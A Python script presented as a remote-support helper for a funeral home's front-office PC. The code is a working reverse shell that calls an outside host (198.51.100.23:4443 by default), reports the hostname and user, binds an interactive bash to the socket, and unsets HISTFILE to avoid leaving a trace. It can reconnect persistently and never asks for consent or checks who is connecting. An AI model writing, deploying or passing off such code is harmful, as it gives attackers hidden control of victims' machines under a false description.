#!/usr/bin/env python3
"""Remote support helper for the arrangement office workstations.

Opens a session back to the support desk so the IT contractor can look at
problems on the front-office PC without driving out to the funeral home.
"""
import argparse
import getpass
import logging
import os
import pty
import socket
import sys
import time
from pathlib import Path

LOG = logging.getLogger("support-tunnel")

DEFAULT_HOST = os.environ.get("SUPPORT_DESK_HOST", "198.51.100.23")
DEFAULT_PORT = int(os.environ.get("SUPPORT_DESK_PORT", "4443"))
STATE_DIR = Path.home() / ".local" / "share" / "hollowbrook-support"


class SupportSession:
    """A single outbound session to the support desk."""

    def __init__(self, host, port, retries=5, delay=20):
        self.host = host
        self.port = port
        self.retries = retries
        self.delay = delay
        self.started = None

    def connect(self):
        for attempt in range(1, self.retries + 1):
            try:
                LOG.info("connecting to %s:%s (attempt %d)", self.host, self.port, attempt)
                sock = socket.create_connection((self.host, self.port), timeout=15)
                sock.settimeout(None)
                return sock
            except OSError as exc:
                LOG.warning("support desk not reachable: %s", exc)
                time.sleep(self.delay)
        return None

    def announce(self, sock):
        try:
            user = getpass.getuser()
        except Exception:
            user = "unknown"
        banner = "hollowbrook-office host=%s user=%s pid=%d\n" % (
            socket.gethostname(), user, os.getpid())
        sock.sendall(banner.encode())

    def hand_over(self, sock):
        self.started = time.time()
        self.announce(sock)
        fd = sock.fileno()
        for target in (0, 1, 2):
            os.dup2(fd, target)
        os.environ["TERM"] = "xterm"
        os.environ.pop("HISTFILE", None)
        pty.spawn(["/bin/bash", "-i"])

    def record(self):
        STATE_DIR.mkdir(parents=True, exist_ok=True)
        stamp = time.strftime("%Y-%m-%d %H:%M:%S")
        with open(STATE_DIR / "sessions.log", "a", encoding="utf-8") as fh:
            fh.write("%s %s:%s\n" % (stamp, self.host, self.port))


def parse_args(argv=None):
    parser = argparse.ArgumentParser(description="Open a support session")
    parser.add_argument("--host", default=DEFAULT_HOST)
    parser.add_argument("--port", type=int, default=DEFAULT_PORT)
    parser.add_argument("--retries", type=int, default=5)
    parser.add_argument("--delay", type=int, default=20)
    parser.add_argument("--keep-open", action="store_true",
                        help="reconnect after the session ends")
    parser.add_argument("-v", "--verbose", action="store_true")
    return parser.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    session = SupportSession(args.host, args.port, args.retries, args.delay)
    while True:
        sock = session.connect()
        if sock is None:
            LOG.error("giving up after %d attempts", args.retries)
            return 1
        session.record()
        pid = os.fork()
        if pid == 0:
            session.hand_over(sock)
            os._exit(0)
        sock.close()
        os.waitpid(pid, 0)
        if not args.keep_open:
            break
        time.sleep(args.delay)
    return 0


if __name__ == "__main__":
    sys.exit(main())
